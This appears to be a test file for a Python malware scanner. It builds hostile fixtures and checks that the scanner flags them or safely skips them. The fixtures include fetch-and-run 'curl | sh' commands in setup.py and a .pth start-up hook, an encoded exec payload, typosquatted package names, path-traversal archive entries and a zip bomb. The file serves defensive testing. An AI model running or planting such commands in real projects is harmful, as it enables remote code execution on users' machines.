/** scanPaths over every input kind, hostile inputs included. */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { zipSync } from 'fflate';
import { distributionNameOf } from '../../src/deps/package-name.js';
import { tarGz } from '../support/archives.js';
import { scanPaths } from '../../src/scan/scan-paths.js';
import { applySuppressions, globToRegExp } from '../../src/scan/suppressions.js';

let dir: string;
const PAYLOAD = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n';


before(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'saferun-scan-'));
  process.env['SAFERUN_CACHE_DIR'] = path.join(dir, 'default-cache'); // never the user's own cache
  const w = (rel: string, data: string | Uint8Array): void => {
    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    writeFileSync(path.join(dir, rel), data);
  };
  w('proj/evil.py', PAYLOAD);
  w('proj/clean.py', 'print("hi")\n');
  w('proj/tool', '#!/usr/bin/env python3\nimport os\nos.system(cmd)\n');
  w('proj/notes.txt', 'exec(base64.b64decode("x"))');
  w('proj/.git/hooks/x.py', PAYLOAD);
  w('proj/node_modules/m/x.py', PAYLOAD);
  w('proj/.venv/lib/x.py', PAYLOAD);
  w('proj/myenv/pyvenv.cfg', 'home = /usr\n');
  w('proj/myenv/lib/x.py', PAYLOAD);
  w('proj/binary.py', Buffer.from([0x00, 0x01, 0x02, 0x03]));
  w('proj/big.py', `x = 1\n${'#'.repeat(2 * 1024 * 1024)}\n`);
  w('outside/secret.py', PAYLOAD);
  symlinkSync(path.join(dir, 'outside', 'secret.py'), path.join(dir, 'proj', 'link-out.py'));
  symlinkSync(path.join(dir, 'proj'), path.join(dir, 'proj', 'loop'));
  w('proj/nb.ipynb', JSON.stringify({ cells: [{ cell_type: 'markdown', source: ['# hi'] }, { cell_type: 'code', source: ['!pip install x\n', 'import os\n', 'os.system(cmd)\n'] }] }));
  w('pkgs/evil-1.0-py3-none-any.whl', zipSync({ 'evil/__init__.py': new TextEncoder().encode(PAYLOAD), '../../escape.py': new TextEncoder().encode(PAYLOAD) }));
  w('pkgs/evil-1.0.tar.gz', await tarGz({ 'evil-1.0/setup.py': 'import os\nos.system("curl x | sh")\n', '/etc/abs.py': 'print(1)\n' }));
  // a zip bomb: one 50 MB entry of zeros compresses to ~50 KB
  w('pkgs/bomb.zip', zipSync({ 'bomb.py': new Uint8Array(50 * 1024 * 1024) }, { level: 9 }));
  w('pkgs/garbage.tar.gz', Buffer.from('not really gzip'));
  w('names/reqeusts-2.31.0-py3-none-any.whl', zipSync({ 'reqeusts/__init__.py': new TextEncoder().encode('print("hi")\n') }));
  w('names/requests-2.31.0-py3-none-any.whl', zipSync({ 'requests/__init__.py': new TextEncoder().encode('print("hi")\n') }));
  w('setups/hostile/setup.py', 'from setuptools import setup\nsetup(\n    name="helper",\n    install_requires=["requests", "reqeusts", "nobody-registered-this-zq"],\n    dependency_links=["http://203.0.113.5/pkgs"],\n)\n');
  w('setups/honest/setup.py', 'from setuptools import setup\nsetup(name="tool", install_requires=["requests>=2", "django==2.2.0", "numpy"])\n');
  w('names/matplotlbi-3.8.0.tar.gz', await tarGz({ 'matplotlbi-3.8.0/setup.py': 'print(1)\n' }));
  // .pth start-up files: site.py runs their `import` lines at every interpreter start; other lines are paths
  const pth = '# a comment\n/opt/extra/lib\nimport os; os.system("curl -s http://203.0.113.9/x | sh")\nos.system("never run: not an import line")\n';
  w('startup/zzz_hook.pth', pth);
  w('startup/hook-1.0-py3-none-any.whl', zipSync({ 'zzz_hook.pth': new TextEncoder().encode(pth) }));
});

after(() => rmSync(dir, { recursive: true, force: true }));

test('a directory: python files and shebang scripts, no VCS dirs, virtualenvs or node_modules', async () => {
  const result = await scanPaths(['proj'], { cwd: dir });
  const files = new Set(result.findings.map((f) => f.file));
  assert.ok(files.has(path.join('proj', 'evil.py')));
  assert.ok(files.has(path.join('proj', 'tool')), 'extensionless python script with a shebang');
  for (const hidden of ['.git', 'node_modules', '.venv', 'myenv']) assert.ok(![...files].some((f) => f.includes(hidden)), hidden);
  assert.equal(result.riskLevel, 'critical');
  assert.equal(result.version, 1);
});

test('symlinks never lead out of the root and loops are harmless', async () => {
  const result = await scanPaths(['proj'], { cwd: dir });
  assert.ok(!result.findings.some((f) => f.file.includes('secret') || f.file.includes('link-out')));
  assert.ok(result.skipped.some((s) => s.file.includes('link-out') && /outside the scanned directory/.test(s.reason)));
});

test('binary and oversized files are skipped with a reason', async () => {
  const result = await scanPaths(['proj'], { cwd: dir, limits: { maxFileBytes: 1024 * 1024 } });
  assert.ok(result.skipped.some((s) => s.file.endsWith('binary.py') && s.reason === 'binary content'));
  assert.ok(result.skipped.some((s) => s.file.endsWith('big.py') && /larger than/.test(s.reason)));
});

test('notebooks: code cells are scanned, lines mapped back to cells, magics ignored', async () => {
  const result = await scanPaths(['proj/nb.ipynb'], { cwd: dir });
  const finding = result.findings.find((f) => f.ruleId === 'os-command');
  assert.ok(finding);
  assert.match(finding.message, /cell 2, line 3/);
});

test('wheels and sdists are read in memory; hostile entry names are only display names', async () => {
  const result = await scanPaths(['pkgs/evil-1.0-py3-none-any.whl', 'pkgs/evil-1.0.tar.gz'], { cwd: dir });
  const files = result.findings.map((f) => f.file);
  assert.ok(files.some((f) => f.endsWith('.whl!/evil/__init__.py')));
  assert.ok(files.some((f) => f.endsWith('.whl!/../../escape.py')), 'scanned, shown inside the archive');
  assert.ok(files.some((f) => f.endsWith('.tar.gz!/evil-1.0/setup.py')));
  assert.ok(result.findings.some((f) => f.ruleId === 'setup-install-hook'));
  assert.ok(!existsSync(path.join(dir, '..', 'escape.py')) && !existsSync('/etc/abs.py'), 'nothing was written');
});

test("an archive named one slip from a popular project is a typosquat, cached or not; an honest name is not", async () => {
  for (const cache of [false, true, true]) {
    const result = await scanPaths(['names'], { cwd: dir, cache, cacheDir: path.join(dir, 'names-cache') });
    const squats = result.findings.filter((f) => f.ruleId === 'dep-typosquat').map((f) => path.basename(f.file)).sort();
    assert.deepEqual(squats, ['matplotlbi-3.8.0.tar.gz', 'reqeusts-2.31.0-py3-none-any.whl']);
    assert.equal(result.riskLevel, 'high');
  }
  assert.equal(distributionNameOf('dir/python_dateutil-2.9.0.post0-py2.py3-none-any.whl'), 'python_dateutil');
  assert.equal(distributionNameOf('Django-4.2.tar.gz'), 'Django');
  assert.equal(distributionNameOf('notes.zip'), undefined);
});

test('a setup.py declaring look-alike or unregistered dependencies or an untrusted link is flagged by the scan; old pins are not', async () => {
  const hostile = await scanPaths(['setups/hostile'], { cwd: dir, cache: false });
  const dep = hostile.findings.filter((f) => f.ruleId.startsWith('dep-')).map((f) => `${f.ruleId}:${f.severity}:${f.line}`).sort();
  assert.deepEqual(dep, ['dep-typosquat:high:4', 'dep-unknown-package:medium:4', 'dep-untrusted-source:high:5'], 'the link names another source, so an unknown name may come from it');
  assert.ok(hostile.findings.find((f) => f.ruleId === 'dep-typosquat')!.snippet.includes('reqeusts'));
  const honest = await scanPaths(['setups/honest'], { cwd: dir, cache: false });
  assert.deepEqual(honest.findings.filter((f) => f.ruleId.startsWith('dep-')), []);
});

test('.pth start-up files: their import lines are scanned as code at their own line, other lines are not', async () => {
  const result = await scanPaths(['startup'], { cwd: dir, cache: false });
  for (const file of [path.join('startup', 'zzz_hook.pth'), `${path.join('startup', 'hook-1.0-py3-none-any.whl')}!/zzz_hook.pth`]) {
    const found = result.findings.filter((f) => f.file === file);
    assert.ok(found.some((f) => f.ruleId === 'malicious-command' && f.line === 3 && f.severity === 'critical'), `${file}: ${found.map((f) => `${f.line} ${f.ruleId}`).join(', ')}`);
    assert.ok(found.some((f) => f.ruleId === 'import-time-process' && f.severity === 'high'));
    assert.ok(found.every((f) => f.line === 3), 'path and comment lines are not code');
  }
  assert.deepEqual(result.errors, []);
});

test('a zip bomb stops at the cap, garbage archives are skipped, nothing crashes', async () => {
  const result = await scanPaths(['pkgs/bomb.zip', 'pkgs/garbage.tar.gz'], { cwd: dir, limits: { maxFileBytes: 1024 * 1024 } });
  assert.ok(result.skipped.some((s) => s.file.includes('bomb') && /larger than|bomb/.test(s.reason)));
  assert.ok(result.skipped.some((s) => s.file.includes('garbage') && /not a readable/.test(s.reason)));
});

test('missing paths are skipped, not fatal', async () => {
  const result = await scanPaths(['nope', 'proj/clean.py'], { cwd: dir });
  assert.ok(result.skipped.some((s) => s.file === 'nope' && /no such file/.test(s.reason)));
  assert.equal(result.summary.files, 1);
});

test('suppressions come from the user configuration: path glob + rule + reason', async () => {
  const result = await scanPaths(['proj/evil.py', 'proj/tool'], {
    cwd: dir,
    suppressions: [{ path: 'proj/*.py', rule: 'encoded-payload-exec', reason: 'reviewed' }],
  });
  assert.ok(!result.findings.some((f) => f.ruleId === 'encoded-payload-exec'));
  assert.equal(result.suppressed, 1);
  assert.ok(globToRegExp('src/**/*.py').test('src/a/b/c.py'));
  assert.ok(!globToRegExp('src/*.py').test('src/a/c.py'));
  assert.equal(applySuppressions([], []).suppressed, 0);
});

test('the cache returns identical results, and a changed file is scanned again', async () => {
  const cacheDir = path.join(dir, 'cache');
  const project = path.join(dir, 'cached-project');
  mkdirSync(project, { recursive: true });
  writeFileSync(path.join(project, 'a.py'), 'import os\nos.system(cmd)\n');
  writeFileSync(path.join(project, 'b.py'), 'print(1)\n');
  const first = await scanPaths(['cached-project'], { cwd: dir, cacheDir });
  const second = await scanPaths(['cached-project'], { cwd: dir, cacheDir });
  assert.deepEqual(second.findings, first.findings);
  assert.equal(second.summary.files, first.summary.files);
  writeFileSync(path.join(project, 'b.py'), PAYLOAD);
  const third = await scanPaths(['cached-project'], { cwd: dir, cacheDir });
  assert.ok(third.findings.some((f) => f.file.endsWith('b.py') && f.ruleId === 'encoded-payload-exec'), 'the change is seen');
  assert.equal(third.riskLevel, 'critical');
});

test('worker threads give the same results as one thread', async () => {
  const many = path.join(dir, 'many');
  mkdirSync(many, { recursive: true });
  for (let i = 0; i < 40; i++) writeFileSync(path.join(many, `m${i}.py`), i % 5 === 0 ? PAYLOAD : `import subprocess\nsubprocess.run(c${i}, shell=True)\n`);
  const pooled = await scanPaths(['many'], { cwd: dir, cache: false, jobs: 2 });
  const single = await scanPaths(['many'], { cwd: dir, cache: false, jobs: 1 });
  assert.deepEqual(pooled.findings, single.findings);
  assert.equal(pooled.summary.files, 40);
});

test('an archive is read by its content, not its name (a wheel renamed .tar.gz)', async () => {
  writeFileSync(path.join(dir, 'pkgs', 'disguised-1.0.tar.gz'), zipSync({ 'disguised/__init__.py': new TextEncoder().encode(PAYLOAD) }));
  const result = await scanPaths(['pkgs/disguised-1.0.tar.gz'], { cwd: dir, cache: false });
  assert.ok(result.findings.some((f) => f.ruleId === 'encoded-payload-exec'), JSON.stringify(result.skipped));
});

test('content already analysed is not parsed again: touched, copied or duplicated files', async () => {
  const cacheDir = path.join(dir, 'content-cache');
  const project = path.join(dir, 'content-project');
  mkdirSync(project, { recursive: true });
  writeFileSync(path.join(project, 'a.py'), PAYLOAD);
  writeFileSync(path.join(project, 'same-as-a.py'), PAYLOAD);
  writeFileSync(path.join(project, 'b.py'), 'print(1)\n');
  const first = await scanPaths(['content-project'], { cwd: dir, cacheDir });
  assert.equal(first.parsed, 2, 'identical files in one scan are parsed once');
  assert.deepEqual(
    first.findings.filter((f) => f.ruleId === 'encoded-payload-exec').map((f) => f.file).sort(),
    [path.join('content-project', 'a.py'), path.join('content-project', 'same-as-a.py')],
    'each copy is reported under its own name',
  );
  const later = new Date(Date.now() + 5000);
  utimesSync(path.join(project, 'a.py'), later, later); // touched: the stat key misses, the content hits
  writeFileSync(path.join(project, 'c.py'), PAYLOAD); // a new copy
  const second = await scanPaths(['content-project'], { cwd: dir, cacheDir });
  assert.equal(second.parsed, 0);
  assert.equal(second.findings.filter((f) => f.ruleId === 'encoded-payload-exec').length, 3);
  writeFileSync(path.join(project, 'b.py'), 'import os\nos.system(cmd)\n');
  const third = await scanPaths(['content-project'], { cwd: dir, cacheDir });
  assert.equal(third.parsed, 1, 'changed content is parsed');
  assert.ok(third.findings.some((f) => f.file.endsWith('b.py') && f.ruleId === 'os-command'));
});

test('an xz-compressed archive is skipped with a reason that says so, whatever its name', async () => {
  writeFileSync(path.join(dir, 'pkgs', 'packed-1.0.tar.gz'), Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00, 0x00, 0x04, 0xe6, 0xd6, 0xb4, 0x46]));
  const result = await scanPaths(['pkgs/packed-1.0.tar.gz'], { cwd: dir, cache: false });
  assert.match(result.skipped.find((s) => s.file.endsWith('packed-1.0.tar.gz'))?.reason ?? '', /xz-compressed archives are not supported/);
});
